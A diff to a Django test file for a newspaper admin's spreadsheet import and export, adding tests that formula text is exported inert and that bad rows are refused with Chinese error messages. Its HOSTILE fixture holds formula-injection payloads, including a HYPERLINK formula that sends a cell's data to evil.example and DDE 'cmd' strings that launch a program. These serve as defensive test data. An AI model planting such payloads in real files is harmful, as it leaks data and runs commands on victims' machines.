@@ -3,33 +3,70 @@ or JSON, edit them in Excel, import them back with a preview; rows are matched b
 only edited rows change, and a bad row is rejected with its number while nothing is written."""
 
 import codecs
+import csv
 import io
 import json
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
-from articles.models import Article, Issue, Page, Photo
-from articles.resources import ArticleResource, IssueResource, PageResource, PhotoResource
+from articles.models import Article, Byline, Issue, Page, Person, Photo, PhotoCredit
+from articles.resources import (
+    FORMATS,
+    ArticleResource,
+    IssueResource,
+    PageResource,
+    PhotoResource,
+)
+from tests.public import dom
 
 pytestmark = pytest.mark.django_db
 
 CSV, XLSX, JSON = "0", "1", "2"
 
 
+def browser_form(response, marker: str, **choices) -> dict:
+    """What a browser sends when it submits the page's form that holds a field named ``marker``,
+    as rendered: every named input (checkboxes and radios only when checked; no file or submit),
+    each select's selected option (else its first) and every textarea; ``choices`` on top."""
+    forms = [
+        f
+        for f in dom.parse(response).find_all("form")
+        if any(e.attrs.get("name") == marker for e in f.iter())
+    ]
+    assert len(forms) == 1, f"{len(forms)} forms with a field {marker!r}"
+    sent: dict[str, list[str]] = {}
+    for element in forms[0].iter():
+        name = element.attrs.get("name")
+        if not name:
+            continue
+        if element.tag == "input":
+            kind = (element.attrs.get("type") or "text").lower()
+            if kind in ("submit", "button", "reset", "image", "file"):
+                continue
+            if kind in ("checkbox", "radio") and "checked" not in element.attrs:
+                continue
+            default = "on" if kind in ("checkbox", "radio") else ""
+            sent.setdefault(name, []).append(element.attrs.get("value") or default)
+        elif element.tag == "select":
+            options = element.find_all("option")
+            chosen = [o for o in options if "selected" in o.attrs] or options[:1]
+            for option in chosen:
+                sent.setdefault(name, []).append(option.attrs.get("value", option.text))
+        elif element.tag == "textarea":
+            sent.setdefault(name, []).append(element.text)
+    data: dict = {k: v[0] if len(v) == 1 else v for k, v in sent.items()}
+    data.update(choices)
+    return data
+
+
 def export(client, model: str, fmt: str, query: str = "", items=None) -> bytes:
+    """Open the export page, keep every column ticked, choose ``fmt`` and submit."""
     address = reverse(f"admin:articles_{model}_export") + query
-    form = client.get(address).context["form"]
-    data = {"format": fmt, "resource": "0"}
-    data.update(
-        {
-            name: "on"
-            for name, field in form.fields.items()
-            if getattr(field, "is_selectable_field", False)
-        }
-    )
+    data = browser_form(client.get(address), "format", format=fmt)
     if items is not None:
         data["export_items"] = [str(pk) for pk in items]
     response = client.post(address, data)
@@ -55,13 +92,17 @@ def as_file(ds: tablib.Dataset, fmt: str, encoding: str = "utf-8-sig") -> Simple
 
 
 def import_preview(client, model: str, upload, fmt: str):
+    """Open the import page, choose the file and its format, submit: the preview."""
     address = reverse(f"admin:articles_{model}_import")
-    return client.post(address, {"import_file": upload, "format": fmt, "resource": "0"})
+    page = client.get(address)
+    assert page.status_code == 200
+    return client.post(address, browser_form(page, "format", import_file=upload, format=fmt))
 
 
 def import_confirm(client, model: str, preview):
-    confirm = preview.context["confirm_form"]
-    return client.post(reverse(f"admin:articles_{model}_process_import"), confirm.initial)
+    """Press “确认导入” on the preview page."""
+    data = browser_form(preview, "import_file_name")
+    return client.post(reverse(f"admin:articles_{model}_process_import"), data)
 
 
 def edit_headlines(ds: tablib.Dataset, changes: dict[int, str]) -> None:
@@ -267,3 +308,215 @@ def test_admin_exports_the_other_models(editor_client, seed, model):
 def test_viewers_may_export_but_not_import(viewer_client, seed):
     assert export(viewer_client, "article", CSV)
     assert viewer_client.get(reverse("admin:articles_article_import")).status_code == 403
+
+
+# --------------------------------------------------------------------------------------------
+# Formula injection: text a spreadsheet would run is written inert, and read back as it was
+# --------------------------------------------------------------------------------------------
+
+HOSTILE = {
+    "headline": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
+    "kicker": "+1+cmd|' /C calc'!A0",
+    "subheadline": "-2+3",
+    "byline": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "dateline": "'=1+1",  # already quoted once: still read back exactly
+}
+RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_article() -> Article:
+    article = Article.objects.order_by("position").first()
+    Article.objects.filter(pk=article.pk).update(**HOSTILE)
+    return article
+
+
+def cells(content: bytes, fmt: str) -> list[list]:
+    """Every cell of an exported file as a spreadsheet program reads it (XLSX: openpyxl cells)."""
+    if fmt == XLSX:
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        return [list(row) for row in sheet.iter_rows()]
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def assert_inert(rows: list[list], fmt: str) -> None:
+    """No cell is a formula or starts with a character that makes one; each hostile text is
+    there, behind one apostrophe."""
+    texts = []
+    for row in rows:
+        for cell in row:
+            if fmt == XLSX:
+                assert cell.data_type != "f", (cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    texts.append(cell.value)
+            else:
+                texts.append(cell)
+    assert not [t for t in texts if t.startswith(RUNNABLE)]
+    for value in HOSTILE.values():
+        assert "'" + value in texts
+
+
+@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
+def test_exported_formula_text_is_inert_and_reads_back_unchanged(editor_client, seed, fmt):
+    hostile_article()
+    content = export(editor_client, "article", fmt)
+    assert_inert(cells(content, fmt), fmt)
+
+    # imported back untouched, nothing changes: the apostrophe is taken off again
+    preview = import_preview(editor_client, "article", SimpleUploadedFile("a", content), fmt)
+    result = preview.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert result.totals["skip"] == 5 and result.totals["update"] == 0
+
+
+@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
+def test_resource_export_is_inert_in_every_spreadsheet_format(seed, fmt):
+    hostile_article()
+    file_format = FORMATS[int(fmt)]()
+    content = file_format.export_data(ArticleResource().export())
+    assert_inert(cells(content if isinstance(content, bytes) else content.encode(), fmt), fmt)
+
+
+def test_formula_text_typed_into_a_spreadsheet_is_stored_as_text(seed):
+    ds = ArticleResource().export()
+    edit_headlines(ds, {0: "=1+1", 1: "'-5 度"})
+    result = ArticleResource().import_data(ds, dry_run=False)
+    assert result.totals["update"] == 2, [r.error_dict for r in result.invalid_rows]
+    first, second = Article.objects.order_by("position")[:2]
+    assert (first.headline, second.headline) == ("=1+1", "-5 度")
+
+
+# --------------------------------------------------------------------------------------------
+# Row errors: Chinese, naming the column, the same on every database, nothing written
+# --------------------------------------------------------------------------------------------
+
+RESOURCES = {"article": ArticleResource, "issue": IssueResource, "page": PageResource}
+RESOURCES["photo"] = PhotoResource
+GOOD_EDIT = {"article": "主题", "issue": "期号", "page": "版名", "photo": "署名行"}
+CONTROL = "含有不可见的控制字符"
+
+
+def snapshot() -> dict:
+    """Every row of every table a spreadsheet import may touch."""
+    return {
+        model.__name__: list(model.objects.order_by("pk").values_list())
+        for model in (Issue, Page, Article, Photo, Person, Byline, PhotoCredit)
+    }
+
+
+def with_cell(ds: tablib.Dataset, row: int, column: str, value) -> tablib.Dataset:
+    rows = [list(r) for r in ds]
+    rows[row][ds.headers.index(column)] = value
+    out = tablib.Dataset(headers=ds.headers)
+    for r in rows:
+        out.append(r)
+    return out
+
+
+def row_errors(result) -> tuple[int, dict[str, str]]:
+    [invalid] = result.invalid_rows
+    return invalid.number, {
+        column: " ".join(str(m) for m in messages)
+        for column, messages in invalid.error_dict.items()
+    }
+
+
+@pytest.mark.parametrize(
+    ("model", "column", "value", "message"),
+    [
+        ("issue", "期号", "abc", "期号须为 0 到 2147483647 之间的整数"),
+        ("issue", "期号", "2147483648", "期号须为 0 到 2147483647 之间的整数"),
+        ("issue", "期号", "-3", "期号须为 0 到 2147483647 之间的整数"),
+        ("issue", "期号", "²", "期号须为 0 到 2147483647 之间的整数"),
+        ("issue", "期号", 12.5, "期号须为 0 到 2147483647 之间的整数"),
+        ("article", "主题", "标题\x00", "主题" + CONTROL),
+        ("article", "引题", "引题\x1b[0m", "引题" + CONTROL),
+        ("article", "记者", "张\x00三", "记者" + CONTROL),
+        ("article", "记者", "张三、" + "长" * 51, "超过 50 字"),
+        ("article", "位置", "²", "不是版内位置"),
+        ("article", "报纸", "南通\x00日报", "报纸" + CONTROL),
+        ("page", "版名", "要\x1f闻", "版名" + CONTROL),
+        ("photo", "署名行", "记者\x00", "署名行" + CONTROL),
+        ("photo", "摄影", "许\x00丛军", "摄影" + CONTROL),
+        ("photo", "图片说明", "说明\x07", "图片说明" + CONTROL),
+    ],
+    ids=[
+        "number-letters",
+        "number-over-the-column",
+        "number-negative",
+        "number-unicode-digit",
+        "number-fraction",
+        "headline-nul",
+        "kicker-escape",
+        "reporter-nul",
+        "reporter-too-long",
+        "position-unicode-digit",
+        "paper-nul",
+        "section-control",
+        "credit-line-nul",
+        "photographer-nul",
+        "caption-bell",
+    ],
+)
+def test_a_bad_cell_is_refused_in_chinese_naming_its_column_and_nothing_is_written(
+    editor_client, seed_with_a2, model, column, value, message
+):
+    resource = RESOURCES[model]
+    ds = resource().export()
+    last = len(ds) - 1
+    good = "1234" if model == "issue" else "改过的内容"
+    ds = with_cell(ds, 0, GOOD_EDIT[model], good)  # a good row first, which must not be kept
+    ds = with_cell(ds, last, column, value)
+    before = snapshot()
+
+    result = resource().import_data(ds, dry_run=False)
+    assert not result.has_errors()  # no raw Python or database error: a refused row
+    number, errors = row_errors(result)
+    assert number == last + 1
+    assert message in errors.get(column, ""), errors
+    assert set(errors) <= set(ds.headers)  # every error is under a column the editor sees
+    assert snapshot() == before
+
+    preview = import_preview(editor_client, model, as_file(ds, CSV), CSV)
+    html = preview.content.decode()
+    assert preview.status_code == 200 and message in html
+    assert preview.context.get("confirm_form") is None  # nothing to confirm
+    for raw in ("invalid literal", "NUL", "0x00", "Traceback", "out of range"):
+        assert raw not in html
+    assert snapshot() == before
+
+
+@pytest.mark.parametrize("paper", ["南通日报", "nantong-daily"], ids=["name", "slug"])
+def test_two_rows_for_the_same_story_are_refused_with_both_row_numbers(editor_client, seed, paper):
+    ds = ArticleResource().export()
+    ds = with_cell(ds, 1, "主题", "第一次改的标题")
+    copy = list(ds[1])
+    copy[ds.headers.index("主题")] = "第二次改的标题"
+    copy[ds.headers.index("报纸")] = paper
+    ds.append(copy)
+    before = snapshot()
+
+    result = ArticleResource().import_data(ds, dry_run=False)
+    number, errors = row_errors(result)
+    assert number == 6
+    assert "第 6 行与第 2 行是同一篇稿件" in " ".join(errors.values())
+    assert snapshot() == before
+
+    preview = import_preview(editor_client, "article", as_file(ds, CSV), CSV)
+    assert "第 6 行与第 2 行是同一篇稿件" in preview.content.decode()
+    assert preview.context.get("confirm_form") is None
+    assert snapshot() == before
+
+
+def test_two_rows_for_the_same_page_are_refused(seed):
+    ds = PageResource().export()
+    ds.append(list(ds[0]))
+    number, errors = row_errors(PageResource().import_data(ds, dry_run=False))
+    assert number == 2 and "第 2 行与第 1 行是同一版" in " ".join(errors.values())
+
+
+def test_a_control_character_in_stored_text_does_not_break_the_xlsx_export(editor_client, seed):
+    article = Article.objects.order_by("position").first()
+    Article.objects.filter(pk=article.pk).update(headline="旧稿\x01标题")
+    rows = cells(export(editor_client, "article", XLSX), XLSX)
+    assert "旧稿\ufffd标题" in [cell.value for row in rows for cell in row]
